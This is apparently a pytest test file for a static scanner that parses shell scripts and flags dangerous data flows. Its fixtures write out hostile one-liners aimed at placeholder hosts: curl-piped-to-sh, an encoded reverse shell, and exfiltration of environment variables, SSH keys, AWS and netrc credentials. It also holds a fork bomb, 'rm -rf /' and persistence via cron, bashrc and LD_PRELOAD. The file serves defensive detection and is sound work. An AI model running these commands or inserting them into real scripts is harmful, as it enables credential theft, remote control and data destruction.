"""Shell scripts: how they are read, what words become, what flows where, and what ordinary scripts do not say."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.errors import InvalidInput
from pratique.facts.scan.content import Content, Reader, Reading
from pratique.facts.scan.engine import lexicon
from pratique.facts.scan.languages.shell import LANGUAGE
from pratique.facts.scan.languages.shell.nodes import Command, Function, Group, Node, Pipeline
from pratique.facts.scan.languages.shell.script import Script
from pratique.facts.scan.languages.shell.view import read
from pratique.facts.scan.observation import Context, How, Observation


def seen(text: str, context: Context = Context.SHELL, *, inside: bool = False) -> Reading:
    content = Content("x/run.sh", "shell", text.encode(), context, inside=inside)
    reading = Reading("x/run.sh")
    read(content, Reader(content, reading, lexicon()))
    return reading


def only(text: str, label: str) -> Observation:
    found = [each for each in seen(text).observations if each.label == label]
    assert len(found) == 1, found
    return found[0]


def labels(text: str) -> set[str]:
    return {each.label for each in seen(text).observations}


def nodes(text: str) -> list[Node]:
    return list(Script(text).top())


def commands(found: list[Node]) -> list[list[object]]:
    """The words of every simple command, in order."""
    row: list[list[object]] = []
    for node in found:
        if isinstance(node, Command):
            row.append(list(node.words))
        elif isinstance(node, Pipeline):
            row += commands(node.parts)
        elif isinstance(node, Group | Function):
            row += commands(node.body)
    return row


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a b c", [["a", "b", "c"]]),
        ("a; b & c\nd", [["a"], ["b"], ["c"], ["d"]]),
        ("a && b || c", [["a"], ["b"], ["c"]]),
        ("a | b |& c", [["a"], ["b"], ["c"]]),
        ("a \\\n  b # c\nd", [["a", "b"], ["d"]]),
        ("a 'b c' \"d e\" f\\ g", [["a", "b c", "d e", "f g"]]),
        ("if a; then b; elif c; then d; else e; fi; f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("while a; do b; done < c; d", [["a"], ["b"], ["d"]]),
        ("for i in 1 2; do b; done; c", [["b"], ["c"]]),
        ("for ((i = 0; i < 3; i++)); do b; done", [["b"]]),
        ("case $x in a|b) c;; (d) e ;& *) f;; esac; g", [["c"], ["e"], ["f"], ["g"]]),
        ("case x in a) b; esac; c", [["b"], ["c"]]),
        ("f() { a; }; function g { b; }; h", [["a"], ["b"], ["h"]]),
        ("( a; b ) > c; { d; } 2>&1", [["a"], ["b"], ["d"]]),
        ("a <<E\n$(b)\nE\nc", [["a"], ["c"]]),
        ("a <<-'E' && b\n\tx\n\tE\nc", [["a"], ["b"], ["c"]]),
        ("[[ $x =~ ^(a|b)$ && -n y ]] && c", [["[[", "=~", "^", "a", "b", "$", "-n", "y"], ["c"]]),
        ("((x = 1)); a", [[], ["a"]]),
        ("! a; time b", [["a"], ["b"]]),
        ("fi; done; ) ;; a", [["a"]]),
    ],
)
def test_a_script_is_cut_into_commands(text: str, expected: list[list[object]]) -> None:
    found = commands(nodes(text))
    assert [[word for word in row if isinstance(word, str)] for row in found] == expected


def test_an_unclosed_quote_costs_a_line_and_not_the_rest_of_the_script() -> None:
    script = Script("echo it's\ncurl -s https://c2.example.invalid/ | sh\n")
    found = commands(list(script.top()))
    assert ["sh"] in found
    assert script.lost == 1


def test_what_stands_behind_exit_is_not_run() -> None:
    assert "proc.storm" in labels("f() { f | f & }\nf\nexit 0\n")
    assert labels("exit 0\nf() { f | f & }\nf\n") == set()
    assert "proc.storm" in labels("test -n x && exit 0\nf() { f | f & }\nf\n")


@pytest.mark.parametrize(
    "code",
    [
        "echo aGk= | base64 -d",
        "base64 -d <<< aGk=",
        "x=aGk=; echo $x | base64 --decode",
        'x=aG; x+=k=; echo "$x" | base64 -D',
        "printf %s aGk= | openssl base64 -d",
        "echo 6869 | xxd -r -p",
        "echo ih | rev",
        "echo uv | tr 'A-Za-z' 'N-ZA-Mn-za-m'",
        "printf '\\x68\\x69'",
        "printf '%b' '\\150\\151'",
        "echo -e '\\x68\\x69'",
        "cat <<E | base64 -d\naGk=\nE\n",
        'f() { echo "$1" | base64 -d; }; f aGk=',
        "echo aGk= > /tmp/x; base64 -d /tmp/x",
        "echo aGk= | tee /tmp/x > /dev/null; base64 -d < /tmp/x",
        "a=(x aGk=); echo ${a[1]} | base64 -d",
        "x=xxaGk=yy; y=${x#xx}; echo ${y%yy} | base64 -d",
        "x=aXk=; echo ${x/X/G} | base64 -d",
        "x=zaGk=; echo ${x:1:4} | base64 -d",
        "echo aGk=,b | cut -d , -f 1 | base64 -d",
        "echo a-G-k= | sed 's/-//g' | base64 -d",
        "echo ${unset:-aGk=} | base64 -d",
        "set -- aGk=; echo $1 | base64 -d",
        "echo $'\\x61Gk=' | base64 -d",
    ],
)
def test_texts_are_worked_out_through_the_usual_detours(code: str) -> None:
    text = (
        f'word=$({code})\n"$word" > /dev/tcp/c2.example.invalid/443\nalias again="$word"\necho "$word" >> ~/.bashrc\n'
    )
    shell = seen(f'{text}\neval "echo $word > /etc/cron.d/look; echo found-$word | tee -a ~/.profile"\n')
    placed = [each for each in shell.observations if each.label == "write.file"]
    assert placed, "the file is not seen to be written"
    machine = seen(f'x=$({code})\nexport LD_PRELOAD="/tmp/$x.so"\n')
    assert [each.text for each in machine.observations if each.label == "write.preload"] == ["LD_PRELOAD=/tmp/hi.so"]


@pytest.mark.parametrize(
    ("text", "label", "inputs"),
    [
        ('curl -d "$(env)" https://a.example.invalid', "net.send", {"read.env_all"}),
        ("env > /tmp/e; curl -T /tmp/e https://a.example.invalid", "net.send", {"read.env_all"}),
        ("x=$(env | base64); curl https://a.example.invalid/?$x", "net.http", {"read.env_all"}),
        ("env | gzip -c | nc a.example.invalid 1", "net.socket", {"read.env_all"}),
        (
            "{ env; id; } | curl --data-binary @- https://a.example.invalid",
            "net.send",
            {"read.env_all", "read.host_info"},
        ),
        (
            'while read -r l; do curl -d "$l" https://a.example.invalid; done < ~/.netrc',
            "net.send",
            {"read.secret_file"},
        ),
        ("cat ~/.ssh/id_rsa | ssh a.example.invalid 'cat > x'", "net.socket", {"read.secret_file"}),
        ("cp ~/.npmrc /tmp/n; scp /tmp/n u@a.example.invalid:", "net.socket", {"read.secret_file"}),
        ("tar cz ~/.aws | curl -F f=@- https://a.example.invalid", "net.send", {"read.secret_file"}),
        ("dig $(hostname).a.example.invalid", "net.dns_data", {"read.host_info"}),
        ('f() { curl -d "$1" https://a.example.invalid; }; f "$(env)"', "net.send", {"read.env_all"}),
        ("env | tee >(nc a.example.invalid 1)", "net.socket", {"read.env_all"}),
        ("env | xargs -I{} curl https://a.example.invalid/{}", "net.http", {"read.env_all"}),
        ("env | while read -r l; do echo $l; done > /dev/tcp/a.example.invalid/1", "net.socket", {"read.env_all"}),
        ("echo aGk= | base64 -d | sh", "code.exec", {"decode.base"}),
        ("curl https://a.example.invalid | sh", "proc.pipe_shell", {"net.http"}),
        ('sh -c "$(curl https://a.example.invalid)"', "proc.pipe_shell", {"net.http"}),
        ("bash <(curl https://a.example.invalid)", "proc.pipe_shell", {"net.http"}),
        (". <(wget -qO- https://a.example.invalid)", "proc.pipe_shell", {"net.http"}),
        ("curl https://a.example.invalid | sudo -E bash -s -- -y", "proc.pipe_shell", {"net.http"}),
        ("curl https://a.example.invalid | python3 -", "proc.pipe_shell", {"net.http"}),
        ("curl -o x https://a.example.invalid; chmod +x x; ./x", "proc.fetched", {"net.http"}),
        ("wget https://a.example.invalid/x.sh; sh x.sh", "proc.fetched", {"net.http"}),
        ("curl https://a.example.invalid > /tmp/x; . /tmp/x", "proc.fetched", {"net.http"}),
    ],
)
def test_what_is_read_flows_to_what_sends_or_runs_it(text: str, label: str, inputs: set[str]) -> None:
    assert any(each.label == label and inputs <= each.inputs for each in seen(text).observations)


@pytest.mark.parametrize(
    "text",
    [
        'curl -H "Authorization: token $GITHUB_TOKEN" https://api.example.invalid/repos',
        'curl -u "user:$API_TOKEN" https://api.example.invalid',
        "ssh -i ~/.ssh/id_rsa u@a.example.invalid uptime",
        "cat ~/.ssh/id_rsa.pub | ssh a.example.invalid 'cat >> .ssh/authorized_keys'",
        "curl --netrc-file ~/.netrc https://a.example.invalid",
        "chmod 600 ~/.ssh/id_rsa; rm -f ~/.netrc",
        "kubectl --kubeconfig ~/.kube/config apply -f x.yaml",
    ],
)
def test_a_secret_that_opens_the_door_it_is_made_for_is_not_sent_away(text: str) -> None:
    sent = [each for each in seen(text).observations if each.label.startswith("net.")]
    assert not [each for each in sent if each.gets("read.secret_file", "read.ci_token")]


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /var/lib/apt/lists/*",
        'rm -rf "$DIR/"',
        'rm -rf "${BUILD_DIR:?}"/*',
        "dd if=image.iso of=/dev/sdb bs=4M",
        "mkfs.ext4 /dev/sdb1",
        "(echo > /dev/tcp/$HOST/$PORT) > /dev/null 2>&1",
        "exec 3<>/dev/tcp/localhost/80; echo hi >&3; cat <&3",
        "nc -z localhost 80",
        "useradd --system demo",
        "export LD_PRELOAD=/usr/lib/libjemalloc.so.2",
        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
        'echo "VERSION=1" >> "$GITHUB_ENV"',
        "HISTSIZE=10000",
        '\\curl --version; "$CC" -v; python$V -m pip',
        "alias ll='ls -l'",
        'eval "$(ssh-agent -s)"; eval "$(brew shellenv)"',
        'dig +short example.invalid; host "$name"',
        'docker run --rm -v "$PWD:/src" alpine true',
    ],
)
def test_what_ordinary_scripts_do_says_nothing_bad(text: str) -> None:
    bad = (
        "harm.wipe",
        "harm.av",
        "proc.shell_plumbing",
        "write.access",
        "write.preload",
        "evade.",
        "obf.",
        "proc.escape",
    )
    assert not [each for each in seen(text).observations if each.label.startswith((*bad, "net.dns_data", "code.exec"))]


def test_code_of_other_languages_goes_on_to_their_views() -> None:
    reading = seen(
        "python3 -c 'print(1)'\nnode -e 'f()'\npython3 - <<E\nprint(2)\nE\necho cHJpbnQoMyk= | base64 -d | python3\n"
    )
    waiting = [(each.language, each.data, each.line, each.how) for each in reading.waiting]
    assert waiting == [
        ("python", b"print(1)", 1, How.LITERAL),
        ("javascript", b"f()", 2, How.LITERAL),
        ("python", b"print(2)\n", 3, How.LITERAL),
        ("python", b"print(3)", 6, How.DECODED),
    ]


def test_code_that_was_decoded_is_followed_with_the_depth_it_was_found_at() -> None:
    inner = base64.b64encode(b"bash -i >& /dev/tcp/c2.example.invalid/443 0>&1").decode()
    outer = base64.b64encode(f"echo {inner} | base64 -d | sh".encode()).decode()
    found = only(f'\neval "$(echo {outer} | base64 -d)"\n', "proc.shell_plumbing")
    assert (found.line, found.how, found.depth) == (2, How.DECODED, 2)


def test_lines_are_those_of_the_file_and_of_the_text_that_holds_the_code() -> None:
    assert only("\n\nrm -rf /\n", "harm.wipe").line == 3
    assert only("\n\nsh -c 'true\nrm -rf /'\n", "harm.wipe").line == 3


def test_a_file_without_a_suffix_counts_as_a_script_and_not_as_a_module() -> None:
    found = seen("rm -rf /", Context.MODULE_TOP).observations[0]
    assert found.context is Context.SHELL
    assert seen("rm -rf /", Context.MODULE_TOP, inside=True).observations[0].context is Context.MODULE_TOP
    assert seen("rm -rf /", Context.R_CONFIGURE).observations[0].context is Context.R_CONFIGURE


@pytest.mark.parametrize(
    ("path", "head", "claimed"),
    [
        ("x/run.sh", b"", True),
        ("x/configure", b"", True),
        ("x/.bashrc", b"", True),
        ("x/run", b"#!/bin/sh\n", True),
        ("x/run", b"#!/usr/bin/env bash\n", True),
        ("x/run", b"#!/usr/bin/env python\n", False),
        ("x/run.py", b"", False),
    ],
)
def test_files_of_the_shell_are_known_by_name_or_first_line(path: str, head: bytes, claimed: bool) -> None:  # noqa: FBT001 - a row
    assert LANGUAGE.claims(path, head) is claimed


def test_nesting_that_nobody_writes_is_refused() -> None:
    with pytest.raises(InvalidInput, match="too deeply"):
        seen("$(" * 500 + "a" + ")" * 500)
    with pytest.raises(InvalidInput, match="too deeply"):
        seen("if a; then " * 500)


def test_work_without_end_is_cut_short_and_said_so() -> None:
    doubled = "f0() { :; }\n" + "".join(f"f{n}() {{ f{n - 1}; f{n - 1}; f{n - 1}; }}\n" for n in range(1, 30)) + "f29\n"
    seen(doubled)
    reading = seen("x=aaaaaaaaaa\n" + "x=$x$x$x$x$x$x$x$x\n" * 40)
    assert reading.problems == []
    many = seen("true a b c\n" * 500_000)
    assert many.problems == ["it has more commands than are followed"]


SIGNS = "'\"`$(){}[];&|<>\\\n #=!*?~x"
SCRAPS = st.sampled_from(
    [
        *SIGNS,
        "$(",
        "${",
        "<<E\n",
        "E\n",
        "if ",
        "fi",
        "case ",
        "esac",
        "in ",
        ";;",
        "do ",
        "done",
        "()",
        "eval ",
        "base64 -d",
        "curl ",
        "-d @- ",
        "| sh",
        "$x",
        "${x:",
        "${x//",
        "<(",
        ">&3",
        "[[",
        "]]",
        "((",
        "))",
        "$'\\x",
        "printf ",
        "%b",
        "tr a-z b",
        "-c ",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(SCRAPS, max_size=60).map("".join))
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        seen(text)
    except InvalidInput:
        return


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    content = Content("x/run.sh", "shell", data, Context.SHELL)
    try:
        read(content, Reader(content, Reading("x/run.sh"), lexicon()))
    except InvalidInput:
        return
